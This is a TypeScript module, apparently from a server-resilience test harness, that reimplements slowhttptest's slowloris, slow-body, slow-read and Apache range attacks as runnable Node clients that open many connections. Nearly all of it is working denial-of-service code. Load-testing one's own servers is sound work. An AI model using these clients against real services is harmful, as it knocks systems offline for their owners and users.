/**
 * Node clients for the four slow-HTTP attacks of slowhttptest (used when it is not
 * installed): slowloris (`-H`), slow body (`-B`), slow read (`-X`) and the Apache range
 * attack (`-R`). Each runs until `stopAt`, then closes its connection.
 */
import type { Socket } from 'node:net';
import { dial } from './clients.js';

/** The attacks, by slowhttptest's name for them. */
export type Attack = 'slowloris' | 'slow-body' | 'slow-read' | 'range';

/** What one attack connection needs to know. */
export interface Target {
  port: number;
  /** Paths on the server: a large file, and a CGI script that reads its body. */
  bigFile: string;
  script: string;
  stopAt: number;
}

/** Runs one attack connection (or, for `range`, a loop of them) until `target.stopAt`. */
export function attackOnce(attack: Attack, target: Target): Promise<void> {
  switch (attack) {
    case 'slowloris':
      return drip(target, 'GET / HTTP/1.1\r\nHost: attack\r\nX-a: ', 'b');
    case 'slow-body':
      return drip(target, `POST ${target.script} HTTP/1.1\r\nHost: attack\r\nContent-Length: 100000\r\n\r\n`, 'b');
    case 'slow-read':
      return slowRead(target);
    case 'range':
      return ranges(target);
  }
}

/** Sends `head`, then one `byte` a second; reconnects when the server closes, until `stopAt`. */
async function drip(target: Target, head: string, byte: string): Promise<void> {
  while (Date.now() < target.stopAt) {
    const socket = await dialOrUndefined(target.port);
    if (!socket) continue;
    socket.resume(); // read whatever the server answers (a 408, a 503): it must not pile up
    socket.write(head);
    const drip = setInterval(() => socket.write(byte), 1000);
    await until(socket, target.stopAt);
    clearInterval(drip);
  }
}

/**
 * Requests the large file, then reads 32 bytes a second from a paused socket (as
 * `slowhttptest -X -z 32 -n 1`): the server's sends stall on the client's window.
 */
async function slowRead(target: Target): Promise<void> {
  while (Date.now() < target.stopAt) {
    const socket = await dialOrUndefined(target.port);
    if (!socket) continue;
    socket.pause();
    socket.write(`GET ${target.bigFile} HTTP/1.1\r\nHost: attack\r\n\r\n`);
    const sip = setInterval(() => socket.read(32), 1000);
    await until(socket, target.stopAt);
    clearInterval(sip);
  }
}

/** `Range: bytes=0-,5-0,5-1,…,5-1299`: the Apache killer's many overlapping ranges, read at full speed. */
const MANY_RANGES = `bytes=0-,${Array.from({ length: 1300 }, (_, i) => `5-${i}`).join(',')}`;

async function ranges(target: Target): Promise<void> {
  while (Date.now() < target.stopAt) {
    const socket = await dialOrUndefined(target.port);
    if (!socket) continue;
    socket.resume();
    socket.write(
      `GET ${target.bigFile} HTTP/1.1\r\nHost: attack\r\nRange: ${MANY_RANGES}\r\nConnection: close\r\n\r\n`,
    );
    await until(socket, target.stopAt);
  }
}

async function dialOrUndefined(port: number): Promise<Socket | undefined> {
  try {
    return await dial(port);
  } catch {
    await new Promise((resolve) => setTimeout(resolve, 100)); // refused: back off, then retry
    return undefined;
  }
}

/** Resolves when the server closes `socket`, or at `stopAt` (then closes it). */
function until(socket: Socket, stopAt: number): Promise<void> {
  return new Promise((resolve) => {
    const timer = setTimeout(() => socket.destroy(), Math.max(0, stopAt - Date.now()));
    socket.once('close', () => {
      clearTimeout(timer);
      resolve();
    });
  });
}

/** Runs `connections` attack connections (ramped up at 1,000 a second) until `stopAt`. */
export async function runAttack(attack: Attack, target: Target, connections: number): Promise<void> {
  const runs: Array<Promise<void>> = [];
  for (let i = 0; i < connections; i++) {
    runs.push(attackOnce(attack, target));
    if (i % 100 === 99) await new Promise((resolve) => setTimeout(resolve, 100));
  }
  await Promise.all(runs);
}

// As a script (its own process, so that the probe's timings are not the attack's):
// `node dist/attacks.js attack port connections seconds`.
if (import.meta.url === `file://${process.argv[1]}`) {
  const [attack, port, connections, seconds] = process.argv.slice(2);
  const target = {
    port: Number(port),
    bigFile: '/big10m.bin',
    script: '/cgi-bin/read.sh',
    stopAt: Date.now() + Number(seconds) * 1000,
  };
  await runAttack(attack as Attack, target, Number(connections));
}
